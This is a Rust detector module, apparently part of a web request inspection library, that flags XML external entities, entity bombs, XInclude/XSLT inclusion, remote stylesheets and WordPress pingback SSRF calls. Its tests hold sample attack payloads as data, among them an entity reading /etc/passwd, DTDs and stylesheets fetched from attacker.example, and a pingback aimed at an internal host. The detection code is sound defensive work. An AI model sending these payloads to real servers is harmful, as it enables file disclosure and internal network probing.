//! XML external entities and XML-borne inclusion: `<!DOCTYPE` internal
//! subsets with `<!ENTITY` declarations (external ones via `SYSTEM` /
//! `PUBLIC`, parameter entities, entity expansion bombs), external DTDs,
//! XInclude and XSLT documents. Used on whole XML bodies and on any value
//! that carries markup declarations.
//!
//! Never backtracks: declarations are found by substring search and read up
//! to their closing `>`.

use crate::Sink;
use crate::rules;

/// Inspects a whole XML document (or a value holding one).
pub(crate) fn inspect_document(text: &str, sink: &mut Sink<'_>) {
    let mut lower = String::with_capacity(text.len());
    crate::normalize::ascii_lower_into(text, &mut lower);
    inspect_lower(&lower, sink);
}

pub(crate) fn inspect_lower(lower: &str, sink: &mut Sink<'_>) {
    let mut external = false;
    let mut entity_at = None;
    let mut from = 0;
    while let Some(p) = crate::text::find(&lower[from..], "<!entity") {
        let start = from + p;
        let window = &lower[start..(start + 1024).min(lower.len())];
        let end = window.find('>').map_or(lower.len(), |e| start + e + 1);
        let decl = &lower[start..end];
        if crate::text::contains(decl, " system")
            || crate::text::contains(decl, " public")
            || crate::text::contains(decl, "\"system")
            || crate::text::contains(decl, "\tsystem")
            || crate::text::contains(decl, "\nsystem")
        {
            external = true;
            sink.report(&rules::XXE_EXTERNAL_ENTITY, lower, start..end);
        }
        entity_at.get_or_insert(start..end);
        from = end;
    }
    if let Some(span) = entity_at
        && !external
    {
        sink.report(&rules::XXE_ENTITY, lower, span);
    }
    if let Some(p) = crate::text::find(lower, "<!doctype") {
        let end = lower[p..].find(['[', '>']).map_or(lower.len(), |e| p + e);
        let head = &lower[p..end];
        if crate::text::contains(head, " system ")
            || crate::text::contains(head, " public ")
            || crate::text::contains(head, " system\"")
            || crate::text::contains(head, " system'")
        {
            sink.report(&rules::XXE_EXTERNAL_ENTITY, lower, p..end);
        }
    }
    static NEEDLES_1: crate::text::NeedleSet = crate::text::NeedleSet::new(&[
        "xi:include",
        "xmlns:xi=",
        "<xsl:stylesheet",
        "<xsl:transform",
        "xsl:value-of",
        "php:function",
        "xsl:include",
        "xsl:import",
        "<xsl:template",
    ]);
    if let Some((p, needle)) = NEEDLES_1.find_iter(lower).next() {
        sink.report(
            &rules::XXE_XINCLUDE,
            lower,
            p..(p + needle.len() + 32).min(lower.len()),
        );
    }
    xslt_stylesheet(lower, sink);
    xmlrpc_pingback(lower, sink);
}

/// `<?xml-stylesheet type="text/xsl" href="http://...">`: an XSLT processor
/// that honours the processing instruction fetches the stylesheet and runs
/// it over the document (file reads, `document()` fetches, extension
/// functions). Reported when the stylesheet is XSLT and its `href` names a
/// scheme or another host (`http:`, `file:`, `//host/`): a relative one is
/// the application's own, and a CSS stylesheet, what RSS feeds name, only
/// styles.
fn xslt_stylesheet(lower: &str, sink: &mut Sink<'_>) {
    let mut from = 0;
    while let Some(p) = crate::text::find(&lower[from..], "<?xml-stylesheet") {
        let start = from + p;
        let window = &lower[start..(start + 512).min(lower.len())];
        let end = window
            .find("?>")
            .map_or(start + window.len(), |e| start + e + 2);
        let pi = &lower[start..end];
        let href = pi.find("href").map_or("", |h| {
            pi[h + 4..].trim_start_matches([' ', '=', '"', '\''])
        });
        let elsewhere = href.starts_with("//")
            || href
                .find([':', '"', '\'', ' ', '?'])
                .is_some_and(|c| href.as_bytes()[c] == b':');
        if elsewhere && crate::text::contains(pi, "xsl") {
            sink.report(&rules::XXE_XINCLUDE, lower, start..end);
            return;
        }
        from = end;
    }
}

/// An XML-RPC `pingback.ping` call: WordPress (and any pingback server)
/// fetches the source URL it names, so the call turns the server into a
/// proxy for scans of internal hosts and for reflected floods.
fn xmlrpc_pingback(lower: &str, sink: &mut Sink<'_>) {
    for (p, _) in crate::text::find_iter(lower, "pingback.ping") {
        let before = lower[..p].trim_end_matches([' ', '\t', '\r', '\n']);
        if before.ends_with("<methodname>") {
            sink.report(&rules::SSRF_PINGBACK, lower, p..p + "pingback.ping".len());
            return;
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::tests::{assert_clean, assert_detects};

    #[test]
    fn entities_and_inclusion() {
        assert_detects(
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "xxe.external_entity",
        );
        assert_detects(
            "<!DOCTYPE x [<!ENTITY % dtd SYSTEM \"http://example.com/a.dtd\"> %dtd;]>",
            "xxe.external_entity",
        );
        assert_detects(
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]>",
            "xxe.entity_declaration",
        );
        assert_detects(
            "<!DOCTYPE root SYSTEM \"http://example.com/evil.dtd\"><root/>",
            "xxe.external_entity",
        );
        assert_detects(
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "xxe.xinclude",
        );
    }

    #[test]
    fn plain_xml_passes() {
        assert_clean("<?xml version=\"1.0\"?><order><item id=\"1\">Tea</item></order>");
        assert_clean("<!DOCTYPE html>");
        assert_clean(
            "<?xml-stylesheet type=\"text/css\" href=\"/feed.css\"?><rss version=\"2.0\"/>",
        );
        assert_clean("<methodCall><methodName>blogger.getUsersBlogs</methodName></methodCall>");
        assert_clean("<?xml-stylesheet type=\"text/xsl\" href=\"style.xsl\"?><doc/>");
        assert_clean("<?xml-stylesheet type=\"text/xsl\" href=\"/static/feed.xsl\"?><rss/>");
        assert_clean("<p>Pingback.ping is WordPress's notification call.</p>");
    }

    #[test]
    fn remote_stylesheets_and_pingbacks() {
        assert_detects(
            "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?><doc/>",
            "xxe.xinclude",
        );
        assert_detects(
            "<?xml-stylesheet href='file:///tmp/evil.xslt'?><a/>",
            "xxe.xinclude",
        );
        assert_detects(
            "<?xml-stylesheet type=\"text/xsl\" href=\"//cdn.attacker.example/t.xsl\"?><a/>",
            "xxe.xinclude",
        );
        assert_detects(
            "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://10.0.0.5:22/</string></value></param></params></methodCall>",
            "ssrf.pingback",
        );
        assert_detects(
            "<methodCall><methodName>\n  Pingback.Ping\n</methodName></methodCall>",
            "ssrf.pingback",
        );
        assert_detects(
            "<!-- pingback.ping --><methodCall><methodName>pingback.ping</methodName></methodCall>",
            "ssrf.pingback",
        );
    }
}
